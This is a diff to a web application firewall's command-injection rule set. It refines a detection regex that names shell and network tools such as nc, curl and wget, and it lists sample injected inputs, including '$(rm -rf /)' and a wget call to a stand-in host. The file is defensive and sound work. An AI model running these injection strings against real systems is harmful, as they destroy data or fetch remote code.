@@ -10,7 +10,7 @@ export const commandInjectionRules: readonly WafRule[] = [
     why: "a separator, a program's name and what only an argument looks like",
     targets: freeText,
     pattern:
-      /(?:[;|&`]|\$\()\s?(?:\/(?:usr\/)?s?bin\/)?(?:cat|tac|less|head|tail|ls|dir|cp|mv|rm|chmod|chown|wget|curl|nc|ncat|netcat|telnet|bash|sh|zsh|python[23]?|perl|ruby|php|powershell|ping|nslookup|dig|kill|touch|find|grep|awk|sed)\s{1,3}(?:-{1,2}[a-z]|\/|~|\$|\.{1,2}\/|https?:|\d{1,3}\.\d{1,3}\.)/,
+      /(?:[;|&]|\$\(|`(?=\s?(?:curl|wget|nc|bash|sh)\b))\s?(?:\/(?:usr\/)?s?bin\/)?(?:cat|tac|less|head|tail|ls|dir|cp|mv|rm|chmod|chown|wget|curl|nc|ncat|netcat|telnet|bash|sh|zsh|python[23]?|perl|ruby|php|powershell|ping|nslookup|dig|kill|touch|find|grep|awk|sed)\s{1,3}(?:-{1,2}[a-z]|\/|~|\$|\.{1,2}\/|https?:|\d{1,3}\.\d{1,3}\.)/,
     examples: {
       blocks: [
         "x; cat /etc/issue",
@@ -19,7 +19,13 @@ export const commandInjectionRules: readonly WafRule[] = [
         "$(rm -rf /)",
         "a;wget%20http://x.example/a",
       ],
-      passes: ["rm -rf explained", "Salt & pepper; cat food", "R&D; find a partner", "| id | name |"],
+      passes: [
+        "rm -rf explained",
+        "Salt & pepper; cat food",
+        "R&D; find a partner",
+        "`ls -la` lists files",
+        "| id | name |",
+      ],
     },
   },
   {
